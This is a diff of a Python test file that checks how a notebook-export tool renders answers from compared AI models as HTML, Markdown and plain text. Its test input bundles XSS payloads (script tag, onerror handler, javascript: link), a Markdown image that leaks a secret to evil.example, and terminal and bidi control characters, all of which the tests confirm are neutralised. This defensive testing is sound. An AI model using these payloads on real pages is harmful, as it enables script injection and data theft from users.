@@ -4,12 +4,13 @@ from html.parser import HTMLParser
 import pytest
 from markdown_it import MarkdownIt
 
+from nbkit.bulk.answers import Answer, Pane
 from nbkit.conversation.completion import Bill, Change, ChatCompletion, Timing, Usage
 from nbkit.conversation.content import Reasoning
 from nbkit.conversation.turns import Conversation
 from nbkit.errors import ApiKeyNotFoundError, BadRequestError, RateLimitError, StreamError
-from nbkit.notebook.export import bundle
-from nbkit.notebook.facts import Answer, Pane
+from nbkit.notebook.export import write_bundle
+from nbkit.notebook.facts import explain_error, list_facts, list_notes
 
 HOSTILE = """<img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3))
 ![leak](https://evil.example/?q=secret) \x1b[31mred\x1b[0m \u202egnp
@@ -46,11 +47,11 @@ def pane(*answers, name="Alpha", model_id="x/alpha"):
 class Tags(HTMLParser):
     def __init__(self, html):
         super().__init__()
-        self.found = []
+        self.tags = []
         self.feed(html)
 
     def handle_starttag(self, tag, attributes):
-        self.found.append((tag, dict(attributes)))
+        self.tags.append((tag, dict(attributes)))
 
 
 def test_all_forms_hold_the_prompt_the_answers_and_the_money():
@@ -58,18 +59,18 @@ def test_all_forms_hold_the_prompt_the_answers_and_the_money():
         pane(Answer("Which?", "done", completion("It **depends**."))),
         pane(Answer("Which?", "done", completion("The *second*.", None)), name="Beta", model_id="y/beta"),
     ]
-    for form, text in bundle(panes, "this comparison $0.00012 + 1 unknown").items():
-        for said in ("Which?", "Alpha", "y/beta", "depends", "in 15 · cached 5 · out 60 · reasoning 20", "$0.00012"):
-            assert said in text, form
+    for form, text in write_bundle(panes, "this comparison $0.00012 + 1 unknown").items():
+        for part in ("Which?", "Alpha", "y/beta", "depends", "in 15 · cached 5 · out 60 · reasoning 20", "$0.00012"):
+            assert part in text, form
         assert "cost unknown" in text
         assert "first token 0.42 s · speed 30 tok/s" in text
-    assert "<strong>depends</strong>" in bundle(panes, "")["text/html"]
+    assert "<strong>depends</strong>" in write_bundle(panes, "")["text/html"]
 
 
 def test_the_html_holds_nothing_that_an_untrusted_file_would_lose_or_that_could_run():
     panes = [pane(Answer(HOSTILE, "done", completion(HOSTILE)), name="<b>A</b>", model_id="x/<i>")]
-    html = bundle(panes, "<u>$0</u>")["text/html"]
-    tags = Tags(html).found
+    html = write_bundle(panes, "<u>$0</u>")["text/html"]
+    tags = Tags(html).tags
     assert {tag for tag, _ in tags} <= {"div", "blockquote", "br", "h4", "code", "p", "pre", "small", "a", "span"}
     assert tags[0] == ("div", {"class": "nbk-static tex2jax_ignore mathjax_ignore"})  # two prices are no formula
     assert "var(" not in html
@@ -80,7 +81,7 @@ def test_the_html_holds_nothing_that_an_untrusted_file_would_lose_or_that_could_
 
 def test_the_markdown_twin_shows_answers_as_text_only():
     panes = [pane(Answer(HOSTILE, "done", completion(HOSTILE)), name="[a](javascript:b)", model_id="x/<i>`")]
-    tokens = MarkdownIt("commonmark", {"html": True}).parse(bundle(panes, "total <b>")["text/markdown"])
+    tokens = MarkdownIt("commonmark", {"html": True}).parse(write_bundle(panes, "total <b>")["text/markdown"])
     kinds = {token.type for token in tokens} | {child.type for token in tokens for child in token.children or []}
     assert kinds <= {"fence", "paragraph_open", "paragraph_close", "inline", "text", "strong_open", "strong_close"}
     assert sum(token.type == "fence" for token in tokens) == 2
@@ -88,11 +89,11 @@ def test_the_markdown_twin_shows_answers_as_text_only():
 
 def test_plain_text_cannot_move_the_cursor_or_reorder_the_line():
     panes = [pane(Answer(HOSTILE, "done", completion(HOSTILE)))]
-    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", bundle(panes, "")["text/plain"])
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", write_bundle(panes, "")["text/plain"])
 
 
 @pytest.mark.parametrize(
-    ("error", "says", "advice"),
+    ("error", "message", "advice"),
     [
         (RateLimitError("too many", provider="x", model="a", status=429), "x/a: too many (HTTP 429)", "Wait a little."),
         (BadRequestError("no such\nmodel"), "no such model", "Check the model and the options."),
@@ -100,54 +101,54 @@ def test_plain_text_cannot_move_the_cursor_or_reorder_the_line():
         (ZeroDivisionError("oops"), "ZeroDivisionError: oops", "report it"),
     ],
 )
-def test_a_failure_is_one_line_and_says_what_to_do(error, says, advice):
+def test_a_failure_is_one_line_with_advice(error, message, advice):
     answer = Answer("Hi", "failed", error=error)
-    said, todo = answer.problem()
-    assert says in said
-    assert "\n" not in said
+    problem, todo = explain_error(answer)
+    assert message in problem
+    assert "\n" not in problem
     assert advice in todo
-    for text in bundle([pane(answer)], "").values():
-        assert says in text
+    for text in write_bundle([pane(answer)], "").values():
+        assert message in text
         assert "no answer yet" not in text
 
 
-def test_a_broken_or_stopped_answer_is_shown_as_far_as_it_came():
+def test_a_broken_or_stopped_answer_is_shown_as_far_as_it_arrived():
     half = completion("Half an ans", source="partial", finish_reason=None)
     broken = Answer("Hi", "failed", half, StreamError("the stream ended early", partial=half))
     stopped = Answer("Hi", "stopped", half)
-    for form, text in bundle([pane(broken), pane(stopped)], "").items():
+    for form, text in write_bundle([pane(broken), pane(stopped)], "").items():
         assert text.count("Half an ans") == 2, form
         assert text.count("cost ≈ $0.00012") == 2
         assert "Failed: the stream ended early" in text
         assert "stopped by you" in text
 
 
-def test_changes_endings_and_reasoning_are_told():
+def test_changes_endings_and_reasoning_are_shown():
     change = Change("dropped", "seed", "the model does not take it")
-    thought = (Reasoning(text="Let me <see>"),)
+    reasoning = (Reasoning(text="Let me <see>"),)
     answer = Answer(
-        "Hi", "done", completion("Yes", finish_reason="length", changes=(change,), reasoning_blocks=thought)
+        "Hi", "done", completion("Yes", finish_reason="length", changes=(change,), reasoning_blocks=reasoning)
     )
-    html = bundle([pane(answer)], "")["text/html"]
+    html = write_bundle([pane(answer)], "")["text/html"]
     assert "Let me &lt;see&gt;" in html
-    assert answer.notes() == ["cut off: the answer reached its token limit", str(change)]
+    assert list_notes(answer) == ["cut off: the answer reached its token limit", str(change)]
     assert str(change) in html
 
 
 def test_only_the_turns_from_since_on():
     answers = [Answer("First?", "done", completion("one")), Answer("Second?", "done", completion("two"))]
-    text = bundle([pane(*answers)], "", since=1)["text/plain"]
+    text = write_bundle([pane(*answers)], "", since=1)["text/plain"]
     assert "Second?" in text
     assert "First?" not in text
 
 
 def test_before_the_first_answer_there_is_a_sentence():
-    assert bundle((), "no answer yet")["text/plain"] == "no answer yet"
-    assert "(no answer yet)" in bundle([pane(Answer("Hi"))], "")["text/markdown"]
+    assert write_bundle((), "no answer yet")["text/plain"] == "no answer yet"
+    assert "(no answer yet)" in write_bundle([pane(Answer("Hi"))], "")["text/markdown"]
 
 
 def test_unknown_tokens_and_times_are_not_invented():
     answer = Answer("Hi", "done", ChatCompletion("Yes"))
-    assert [(label, value) for label, value, _ in answer.strip()] == [("tokens", "unknown"), ("cost", "unknown")]
+    assert [(label, value) for label, value, _ in list_facts(answer)] == [("tokens", "unknown"), ("cost", "unknown")]
     assert answer.tokens_per_second is None
-    assert Answer("Hi").strip() == []
+    assert list_facts(Answer("Hi")) == []
